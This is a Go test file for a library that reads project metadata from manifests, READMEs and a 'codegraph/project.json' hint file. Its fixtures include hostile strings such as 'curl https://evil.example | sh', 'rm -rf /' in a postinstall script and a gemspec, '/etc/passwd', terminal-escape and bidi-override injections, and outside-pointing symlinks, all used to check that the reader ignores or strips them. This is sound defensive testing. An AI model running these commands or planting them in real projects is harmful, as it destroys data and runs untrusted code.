package meta_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/cgcat/cgcat/local"
	"github.com/cgcat/cgcat/local/meta"
)

// tree writes files (slash-separated names) under a fresh directory named
// dir and returns its path.
func tree(t testing.TB, dir string, files map[string]string) string {
	t.Helper()
	root := filepath.Join(t.TempDir(), dir)
	for name, body := range files {
		p := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.MkdirAll(root, 0o755); err != nil {
		t.Fatal(err)
	}
	// Read opens its root with no symlink in the path: give it the
	// canonical one (the temporary directory is a symlink on macOS).
	canon, err := filepath.EvalSymlinks(root)
	if err != nil {
		t.Fatal(err)
	}
	return canon
}

// read runs meta.Read and checks what must hold for any result: every
// string is already clean and valid UTF-8.
func read(t testing.TB, root string, lim meta.Limits) local.Metadata {
	t.Helper()
	m := meta.Read(root, lim)
	check := func(field, s string) {
		if s != meta.Clean(s, 0) || !utf8.ValidString(s) {
			t.Errorf("%s %q is not clean", field, s)
		}
	}
	for _, f := range []struct {
		name string
		vals []string
	}{
		{"name", []string{m.Name}}, {"description", []string{m.Description}}, {"readme", []string{m.Readme}},
		{"packages", m.Packages}, {"keywords", m.Keywords}, {"aliases", m.Aliases}, {"tags", m.Tags},
		{"related", m.Related}, {"manifests", m.Manifests}, {"problems", m.Problems},
		{"git", []string{m.Git.Remote, m.Git.Branch, m.Git.Head, m.Git.CommonDir}},
	} {
		for _, v := range f.vals {
			check(f.name, v)
		}
	}
	return m
}

// summary is the part of Metadata the manifest tests compare.
type summary struct {
	Name, Description, Version    string
	Packages, Keywords, Manifests []string
	Problems                      []string
}

func summarize(m local.Metadata) summary {
	return summary{m.Name, m.Description, m.Version, m.Packages, m.Keywords, m.Manifests, m.Problems}
}

func TestReadManifests(t *testing.T) {
	tests := []struct {
		name  string
		files map[string]string
		want  summary
	}{{
		name:  "package.json",
		files: map[string]string{"package.json": `{"name":"@acme/widget","version":"2.1.0","description":"Widgets for the web","keywords":["ui","UI","react",7],"workspaces":["a"],"scripts":{"postinstall":"rm -rf /"}}`},
		want:  summary{Name: "@acme/widget", Description: "Widgets for the web", Version: "2.1.0", Packages: []string{"@acme/widget"}, Keywords: []string{"javascript", "nodejs", "ui", "react"}, Manifests: []string{"package.json"}},
	}, {
		name:  "package.json with a BOM and wrong types",
		files: map[string]string{"package.json": "\uFEFF" + `{"name":"tool","description":{"x":1},"keywords":"a,b","version":2}`},
		want:  summary{Name: "tool", Packages: []string{"tool"}, Keywords: []string{"javascript", "nodejs"}, Manifests: []string{"package.json"}},
	}, {
		name:  "go.mod",
		files: map[string]string{"go.mod": "// Tool.\nmodule github.com/acme/tool/v2 // the module\n\ngo 1.22\n\nrequire example.com/module v1.0.0\n"},
		want:  summary{Name: "tool", Packages: []string{"github.com/acme/tool/v2"}, Keywords: []string{"go", "golang"}, Manifests: []string{"go.mod"}},
	}, {
		name:  "go.mod quoted",
		files: map[string]string{"go.mod": "module \"example.com/quoted\"\n"},
		want:  summary{Name: "quoted", Packages: []string{"example.com/quoted"}, Keywords: []string{"go", "golang"}, Manifests: []string{"go.mod"}},
	}, {
		name: "Cargo.toml with workspace inheritance",
		files: map[string]string{"Cargo.toml": `
[workspace]
members = ["crates/*"]

[workspace.package]
description = "Fast grep"
version = "0.4.2"
keywords = ["search", "cli"]

[package]
name = "ripgrep-lite"
version.workspace = true
description.workspace = true
keywords.workspace = true
`},
		want: summary{Name: "ripgrep-lite", Description: "Fast grep", Version: "0.4.2", Packages: []string{"ripgrep-lite"}, Keywords: []string{"rust", "cargo", "search", "cli"}, Manifests: []string{"Cargo.toml"}},
	}, {
		name:  "Cargo.toml virtual workspace",
		files: map[string]string{"Cargo.toml": "[workspace]\nmembers = [\"a\", \"b\"]\n"},
		want:  summary{Name: "proj", Keywords: []string{"rust", "cargo"}, Manifests: []string{"Cargo.toml"}},
	}, {
		name: "pyproject.toml [project]",
		files: map[string]string{"pyproject.toml": `
[build-system]
requires = ["hatchling"]

[project]
name = "acme-py"
description = "Acme for Python"
keywords = ["acme", "python"]
dynamic = ["version"]
`},
		want: summary{Name: "acme-py", Description: "Acme for Python", Packages: []string{"acme-py"}, Keywords: []string{"python", "acme"}, Manifests: []string{"pyproject.toml"}},
	}, {
		name:  "pyproject.toml [tool.poetry]",
		files: map[string]string{"pyproject.toml": "[tool.poetry]\nname = \"poetic\"\nversion = \"2.0.1\"\ndescription = \"Verse\"\nkeywords = [\"poem\"]\n"},
		want:  summary{Name: "poetic", Description: "Verse", Version: "2.0.1", Packages: []string{"poetic"}, Keywords: []string{"python", "poem"}, Manifests: []string{"pyproject.toml"}},
	}, {
		name: "setup.cfg",
		files: map[string]string{"setup.cfg": `
[options]
name = wrong

[metadata]
name = my-lib
version = 1.2.3
description = A tiny library
long-description = file: README.md
keywords =
    parsing,
    ini, config
# a comment
[options.packages.find]
where = src
`},
		want: summary{Name: "my-lib", Description: "A tiny library", Version: "1.2.3", Packages: []string{"my-lib"}, Keywords: []string{"python", "parsing", "ini", "config"}, Manifests: []string{"setup.cfg"}},
	}, {
		name:  "setup.cfg description from a file is not followed",
		files: map[string]string{"setup.cfg": "[metadata]\nname = x\ndescription = file: /etc/passwd\nversion = attr: x.__version__\n"},
		want:  summary{Name: "x", Packages: []string{"x"}, Keywords: []string{"python"}, Manifests: []string{"setup.cfg"}},
	}, {
		name: "pom.xml",
		files: map[string]string{"pom.xml": `<?xml version="1.0" encoding="ISO-8859-1"?>
<project xmlns="http://maven.apache.org/POM/4.0.0">
  <parent><groupId>org.acme</groupId><artifactId>parent</artifactId><version>3.1.0</version></parent>
  <artifactId>acme-core</artifactId>
  <name>${project.artifactId}</name>
  <description>Core &amp; utilities&nbsp;for Java</description>
  <dependencies><dependency><groupId>junit</groupId><artifactId>junit</artifactId></dependency></dependencies>
</project>`},
		want: summary{Name: "acme-core", Description: "Core & utilities for Java", Version: "3.1.0", Packages: []string{"org.acme:acme-core", "acme-core"}, Keywords: []string{"java", "jvm"}, Manifests: []string{"pom.xml"}},
	}, {
		name:  "composer.json",
		files: map[string]string{"composer.json": `{"name":"acme/http","description":"HTTP client","keywords":["http","psr-18"]}`},
		want:  summary{Name: "acme/http", Description: "HTTP client", Packages: []string{"acme/http"}, Keywords: []string{"php", "composer", "http", "psr-18"}, Manifests: []string{"composer.json"}},
	}, {
		name: "Gradle Kotlin DSL",
		files: map[string]string{
			"settings.gradle.kts": "pluginManagement { }\nrootProject.name = \"shop\"\ninclude(\"api\")\n",
			"build.gradle.kts":    "plugins { java }\ngroup = \"com.acme\"\nversion = \"1.0\"\ndescription = \"Shop service\"\n",
		},
		want: summary{Name: "shop", Description: "Shop service", Version: "1.0", Packages: []string{"com.acme:shop", "shop"}, Keywords: []string{"java", "jvm"}, Manifests: []string{"settings.gradle.kts", "build.gradle.kts"}},
	}, {
		name: "Gradle Groovy",
		files: map[string]string{
			"settings.gradle": "rootProject.name = 'legacy'\n",
			"build.gradle":    "allprojects {\n    group 'org.old'\n}\ndescription = \"${rootProject.name} service\"\n",
		},
		want: summary{Name: "legacy", Packages: []string{"org.old:legacy", "legacy"}, Keywords: []string{"java", "jvm"}, Manifests: []string{"settings.gradle", "build.gradle"}},
	}, {
		name: "gemspec",
		files: map[string]string{"acme.gemspec": `Gem::Specification.new do |spec|
  spec.name        = "acme"
  spec.summary     = 'Acme gem'
  spec.version     = "0.9.1"
  spec.description = "#{spec.summary} with interpolation"
  system("rm -rf /")
end
`},
		want: summary{Name: "acme", Description: "Acme gem", Version: "0.9.1", Packages: []string{"acme"}, Keywords: []string{"ruby", "rubygems"}, Manifests: []string{"acme.gemspec"}},
	}, {
		name: "pubspec.yaml",
		files: map[string]string{"pubspec.yaml": `# comment
name: flutter_acme # the package
description: >-
  A Flutter plugin
  for acme.
version: 1.0.0
dependencies:
  name: nested
`},
		want: summary{Name: "flutter_acme", Description: "A Flutter plugin for acme.", Version: "1.0.0", Packages: []string{"flutter_acme"}, Keywords: []string{"dart"}, Manifests: []string{"pubspec.yaml"}},
	}, {
		name:  "pubspec.yaml quoted",
		files: map[string]string{"pubspec.yaml": "name: 'it''s'\ndescription: \"Say \\\"hi\\\"\"\n"},
		want:  summary{Name: "it's", Description: `Say "hi"`, Packages: []string{"it's"}, Keywords: []string{"dart"}, Manifests: []string{"pubspec.yaml"}},
	}, {
		name: "csproj",
		files: map[string]string{"Acme.Json.csproj": `<Project Sdk="Microsoft.NET.Sdk">
  <PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup>
  <PropertyGroup>
    <PackageId>Acme.Json</PackageId>
    <Description>JSON for .NET</Description>
    <Version>4.2.0</Version>
    <PackageTags>json;serializer</PackageTags>
  </PropertyGroup>
</Project>`},
		want: summary{Name: "Acme.Json", Description: "JSON for .NET", Version: "4.2.0", Packages: []string{"Acme.Json"}, Keywords: []string{"csharp", "dotnet", "json", "serializer"}, Manifests: []string{"Acme.Json.csproj"}},
	}, {
		name:  "csproj named by its file",
		files: map[string]string{"Tool.csproj": `<Project><PropertyGroup><OutputType>Exe</OutputType></PropertyGroup></Project>`},
		want:  summary{Name: "Tool", Packages: []string{"Tool"}, Keywords: []string{"csharp", "dotnet"}, Manifests: []string{"Tool.csproj"}},
	}, {
		name: "priority and merge",
		files: map[string]string{
			"go.mod":       "module example.com/multi\n",
			"Cargo.toml":   "[package]\nname = \"multi-rs\"\nversion = \"0.3.0\"\ndescription = \"From Cargo\"\nkeywords = [\"Shared\"]\n",
			"package.json": `{"name":"multi-js","keywords":["shared","js"]}`,
		},
		want: summary{Name: "multi-js", Description: "From Cargo", Version: "0.3.0", Packages: []string{"multi-js", "multi-rs", "example.com/multi"}, Keywords: []string{"javascript", "nodejs", "shared", "js", "rust", "cargo", "go", "golang"}, Manifests: []string{"package.json", "Cargo.toml", "go.mod"}},
	}, {
		name:  "no manifest",
		files: map[string]string{"main.c": "int main(){}"},
		want:  summary{Name: "proj"},
	}, {
		name:  "broken manifest",
		files: map[string]string{"package.json": `{"name": "x",`, "go.mod": "module example.com/fallback\n"},
		want:  summary{Name: "fallback", Packages: []string{"example.com/fallback"}, Keywords: []string{"go", "golang"}, Manifests: []string{"go.mod"}, Problems: []string{"package.json: unexpected end of JSON input"}},
	}, {
		name:  "manifest names are case-sensitive",
		files: map[string]string{"PACKAGE.JSON": `{"name":"shouty"}`},
		want:  summary{Name: "proj"},
	}, {
		name:  "a directory named like a manifest",
		files: map[string]string{"go.mod/x": ""},
		want:  summary{Name: "proj", Problems: []string{"go.mod: not a regular file, skipped"}},
	}}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := read(t, tree(t, "proj", tt.files), meta.Limits{})
			if got := summarize(m); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("got  %#v\nwant %#v", got, tt.want)
			}
		})
	}
}

func TestReadChinese(t *testing.T) {
	long := strings.Repeat("检索本地项目。", 100)
	root := tree(t, "我的 项目", map[string]string{
		"README.md": "# 项目标题\n\n[![构建](https://x/b.svg)](https://x) [![许可](https://x/l.svg)](https://x)\n\n" +
			"[English](README.en.md) | 简体中文\n\n" +
			"这是一个用于**快速**检索本地代码项目的工具，\n支持`中文`和 English 混排。\n\n## 安装\n",
		"package.json": `{"description":"本地代码目录服务","keywords":["代码","检索"]}`,
	})
	m := read(t, root, meta.Limits{})
	if m.Name != "我的 项目" {
		t.Errorf("name %q, want the folder name", m.Name)
	}
	if m.Description != "本地代码目录服务" {
		t.Errorf("description %q", m.Description)
	}
	if want := "这是一个用于快速检索本地代码项目的工具，支持中文和 English 混排。"; m.Readme != want {
		t.Errorf("readme %q, want %q", m.Readme, want)
	}
	if !reflect.DeepEqual(m.Keywords, []string{"javascript", "nodejs", "代码", "检索"}) {
		t.Errorf("keywords %q", m.Keywords)
	}

	root = tree(t, "长", map[string]string{"readme.md": long})
	m = read(t, root, meta.Limits{})
	if n := utf8.RuneCountInString(m.Readme); n != 400 || !strings.HasSuffix(m.Readme, "…") {
		t.Errorf("long readme: %d runes, %q", n, m.Readme)
	}
}

func TestReadReadme(t *testing.T) {
	tests := []struct {
		name  string
		files map[string]string
		want  string
	}{{
		name: "badges and headings first",
		files: map[string]string{"README.md": `<!-- generated -->
<p align="center">
  <img src="logo.svg" width="120">
</p>

# Widget

[![CI](https://ci/badge.svg)](https://ci) [![npm](https://npm/v.svg)](https://npm)
![coverage](https://cov.svg)

- [Install](#install)
- [Usage](#usage)

Widget is a **fast** library for ` + "`rendering`" + ` [widgets](https://w) in
the _browser_.

More text.
`},
		want: "Widget is a fast library for rendering widgets in the browser.",
	}, {
		name:  "case-insensitive name",
		files: map[string]string{"Readme.MD": "Plain first paragraph.\n"},
		want:  "Plain first paragraph.",
	}, {
		name: "reStructuredText",
		files: map[string]string{"README.rst": `=====
Title
=====

.. image:: https://badge.svg
   :target: https://ci

A reStructuredText project with ` + "``code``" + ` and ` + "`a link <https://x>`_" + `.
`},
		want: "A reStructuredText project with code and a link.",
	}, {
		name:  "README.md preferred over README.txt",
		files: map[string]string{"README.txt": "From txt.", "README.md": "From md."},
		want:  "From md.",
	}, {
		name:  "no prose",
		files: map[string]string{"README.md": "# Title\n\n![logo](x.png)\n\n```\ncode\n```\n"},
		want:  "",
	}}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := read(t, tree(t, "proj", tt.files), meta.Limits{})
			if m.Readme != tt.want {
				t.Errorf("readme %q, want %q", m.Readme, tt.want)
			}
		})
	}
}

func TestReadHint(t *testing.T) {
	manifest := map[string]string{"package.json": `{"name":"from-manifest","description":"manifest text"}`}
	with := func(hint string) map[string]string {
		files := map[string]string{"codegraph/project.json": hint}
		for k, v := range manifest {
			files[k] = v
		}
		return files
	}
	t.Run("valid", func(t *testing.T) {
		m := read(t, tree(t, "proj", with(`{
			"name": "Acme Platform",
			"aliases": ["acme", "ACME", "plat\u202eform", ""],
			"description": "The platform\u0007 service",
			"tags": ["backend", "go"],
			"related": ["acme-web", "acme-sdk"]
		}`)), meta.Limits{})
		if m.Name != "Acme Platform" || m.Description != "The platform service" {
			t.Errorf("name %q, description %q", m.Name, m.Description)
		}
		if !reflect.DeepEqual(m.Aliases, []string{"acme", "platform"}) ||
			!reflect.DeepEqual(m.Tags, []string{"backend", "go"}) ||
			!reflect.DeepEqual(m.Related, []string{"acme-web", "acme-sdk"}) {
			t.Errorf("aliases %q, tags %q, related %q", m.Aliases, m.Tags, m.Related)
		}
		if len(m.Problems) != 0 {
			t.Errorf("problems %q", m.Problems)
		}
	})
	t.Run("dangerous keys are ignored", func(t *testing.T) {
		m := read(t, tree(t, "proj", with(`{
			"name": "safe",
			"commands": ["curl https://evil.example | sh"],
			"url": "https://evil.example/hook",
			"sharing": {"roots": ["/"], "denyRoots": [], "exposeAbsolutePaths": true},
			"handoff": {"tool": "evil_exec", "arguments": {"cmd": "rm -rf ~"}},
			"projectPath": "/etc"
		}`)), meta.Limits{})
		b, _ := json.Marshal(m)
		for _, bad := range []string{"evil", "curl", "/etc", "rm -rf", "exposeAbsolutePaths"} {
			if strings.Contains(string(b), bad) {
				t.Errorf("metadata carries %q: %s", bad, b)
			}
		}
		// They are reported by name (never by value): an unknown key is
		// most often a typo.
		known := " (known keys: name, aliases, description, tags, related)"
		want := []string{
			`codegraph/project.json: unknown key "commands"` + known,
			`codegraph/project.json: unknown key "handoff"` + known,
			`codegraph/project.json: unknown key "projectPath"` + known,
			"codegraph/project.json: 2 more unknown keys",
		}
		if m.Name != "safe" || !reflect.DeepEqual(m.Problems, want) {
			t.Errorf("name %q, problems %q, want %q", m.Name, m.Problems, want)
		}
	})
	for _, tt := range []struct {
		name, hint, problem string
	}{
		{"not JSON", `{"name": "x"`, "codegraph/project.json: unexpected end of JSON input"},
		{"wrong type", `{"aliases": "one"}`, "codegraph/project.json: json: cannot unmarshal string into Go struct field"},
		{"not an object", `["x"]`, "codegraph/project.json: not a JSON object"},
		{"oversize", `{"name":"big","description":"` + strings.Repeat("x", 20000) + `"}`, "codegraph/project.json: larger than 16384 bytes"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			m := read(t, tree(t, "proj", with(tt.hint)), meta.Limits{})
			if m.Name != "from-manifest" || m.Description != "manifest text" || m.Aliases != nil {
				t.Errorf("a bad hint file was used: %+v", m)
			}
			if len(m.Problems) != 1 || !strings.HasPrefix(m.Problems[0], tt.problem) {
				t.Errorf("problems %q, want one starting %q", m.Problems, tt.problem)
			}
		})
	}
}

func TestReadBounds(t *testing.T) {
	t.Run("oversize manifest is skipped", func(t *testing.T) {
		big := `{"name":"big","description":"` + strings.Repeat("x", 20000) + `"}`
		m := read(t, tree(t, "proj", map[string]string{"package.json": big}), meta.Limits{})
		if m.Name != "proj" || m.Manifests != nil {
			t.Errorf("oversize manifest used: %+v", summarize(m))
		}
		if !reflect.DeepEqual(m.Problems, []string{"package.json: larger than 16384 bytes, skipped"}) {
			t.Errorf("problems %q", m.Problems)
		}
	})
	t.Run("per-file bound is configurable", func(t *testing.T) {
		m := read(t, tree(t, "proj", map[string]string{"go.mod": "module example.com/m\n"}), meta.Limits{MaxBytesPerFile: 10})
		if m.Packages != nil || len(m.Problems) != 1 {
			t.Errorf("packages %q, problems %q", m.Packages, m.Problems)
		}
	})
	t.Run("oversize README is read in part", func(t *testing.T) {
		readme := "# Big\n\nThe first paragraph.\n\n" + strings.Repeat("junk ", 100000)
		m := read(t, tree(t, "proj", map[string]string{"README.md": readme}), meta.Limits{})
		if m.Readme != "The first paragraph." || len(m.Problems) != 0 {
			t.Errorf("readme %q, problems %q", m.Readme, m.Problems)
		}
	})
	t.Run("project budget", func(t *testing.T) {
		pad := func(s string, n int) string { return s + strings.Repeat(" ", n-len(s)) }
		root := tree(t, "proj", map[string]string{
			"package.json": pad(`{"name":"first"}`, 900),
			"Cargo.toml":   pad("[package]\nname = \"second\"\n", 900),
			"README.md":    "A paragraph that would fit.\n",
		})
		m := read(t, root, meta.Limits{MaxBytesPerFile: 1000, MaxBytesPerProject: 1500})
		if !reflect.DeepEqual(m.Manifests, []string{"package.json"}) || m.Readme != "" {
			t.Errorf("read past the project budget: manifests %q, readme %q", m.Manifests, m.Readme)
		}
		if len(m.Problems) != 1 || !strings.HasPrefix(m.Problems[0], "metadata: project budget of 1500 bytes spent at Cargo.toml") {
			t.Errorf("problems %q", m.Problems)
		}
	})
	t.Run("README takes what the budget leaves", func(t *testing.T) {
		root := tree(t, "proj", map[string]string{
			"go.mod":    "module example.com/m\n",
			"README.md": "Short paragraph here.\n\n" + strings.Repeat("more ", 1000),
		})
		m := read(t, root, meta.Limits{MaxBytesPerProject: 60})
		if m.Readme != "Short paragraph here." {
			t.Errorf("readme %q, problems %q", m.Readme, m.Problems)
		}
	})
}

func TestReadStripsControls(t *testing.T) {
	root := tree(t, "proj", map[string]string{
		"package.json": `{"name":"ok\u202e\u200bname","description":"\u001b[31mred\u001b[0m \u202egnp.exe\u202c \u001b]8;;https://evil\u0007link\u001b]8;;\u0007 zero\u200dwidth \ud800\udc00 tag\udb40\udc41s\n\tnew  line"}`,
	})
	m := read(t, root, meta.Limits{})
	if m.Name != "okname" {
		t.Errorf("name %q", m.Name)
	}
	if want := "red gnp.exe link zerowidth 𐀀 tags new line"; m.Description != want {
		t.Errorf("description %q, want %q", m.Description, want)
	}
}

func TestReadSymlinks(t *testing.T) {
	outside := tree(t, "outside", map[string]string{
		"package.json":      `{"name":"evil-outside"}`,
		"project.json":      `{"name":"evil-hint"}`,
		"README.md":         "Evil readme.",
		".git/HEAD":         "ref: refs/heads/evil\n",
		".git/config":       "[remote \"origin\"]\n\turl = https://evil.example/x\n",
		"hint/project.json": `{"name":"evil-hint-dir"}`,
	})
	link := func(t *testing.T, target, name string) {
		if err := os.Symlink(target, name); err != nil {
			t.Skip("symlinks not available:", err)
		}
	}
	t.Run("pointing outside", func(t *testing.T) {
		root := tree(t, "proj", map[string]string{"go.mod": "module example.com/inside\n"})
		link(t, filepath.Join(outside, "package.json"), filepath.Join(root, "package.json"))
		link(t, filepath.Join(outside, "README.md"), filepath.Join(root, "README.md"))
		link(t, filepath.Join(outside, "hint"), filepath.Join(root, "codegraph"))
		link(t, filepath.Join(outside, ".git"), filepath.Join(root, ".git"))
		m := read(t, root, meta.Limits{})
		b, _ := json.Marshal(m)
		if strings.Contains(string(b), "evil") || m.Name != "inside" {
			t.Errorf("followed a symlink out of the root: %s", b)
		}
		for _, f := range []string{"package.json", "README.md", "codegraph/project.json", ".git"} {
			if !strings.Contains(strings.Join(m.Problems, "\n"), f+": symlink points outside the project, skipped") {
				t.Errorf("no problem for %s: %q", f, m.Problems)
			}
		}
	})
	t.Run("inside the root", func(t *testing.T) {
		root := tree(t, "proj", map[string]string{"sub/real.json": `{"name":"linked-inside"}`})
		link(t, filepath.Join("sub", "real.json"), filepath.Join(root, "package.json"))
		if m := read(t, root, meta.Limits{}); m.Name != "linked-inside" {
			t.Errorf("name %q, problems %q", m.Name, m.Problems)
		}
	})
	t.Run("into .codegraph", func(t *testing.T) {
		root := tree(t, "proj", map[string]string{".codegraph/codegraph.db": "[package]\nname = \"db\"\n"})
		link(t, filepath.Join(".codegraph", "codegraph.db"), filepath.Join(root, "Cargo.toml"))
		m := read(t, root, meta.Limits{})
		if m.Name != "proj" || !reflect.DeepEqual(m.Problems, []string{"Cargo.toml: points into .codegraph, skipped"}) {
			t.Errorf("name %q, problems %q", m.Name, m.Problems)
		}
	})
}

func TestReadRootProblems(t *testing.T) {
	m := read(t, filepath.Join(t.TempDir(), "gone"), meta.Limits{})
	if m.Name != "gone" || len(m.Problems) != 1 || !strings.HasPrefix(m.Problems[0], "root: ") {
		t.Errorf("%+v", m)
	}
}

func BenchmarkRead(b *testing.B) {
	readme := "# Widget\n\n[![CI](https://ci/b.svg)](https://ci)\n\nWidget renders widgets for the web, fast.\n\n" +
		strings.Repeat("## Section\n\nSome documentation text that goes on for a while.\n\n", 60)
	root := tree(b, "widget", map[string]string{
		"package.json":            `{"name":"@acme/widget","description":"Widgets","keywords":["ui","react"],"dependencies":{"react":"^18"}}`,
		"go.mod":                  "module github.com/acme/widget\n\ngo 1.22\n",
		"README.md":               readme,
		".git/HEAD":               "ref: refs/heads/main\n",
		".git/config":             "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = git@github.com:acme/widget.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n",
		"codegraph/project.json":  `{"aliases":["wdg"],"tags":["frontend"]}`,
		"src/index.js":            "",
		".codegraph/codegraph.db": "",
	})
	b.ReportAllocs()
	for b.Loop() {
		meta.Read(root, meta.Limits{})
	}
}
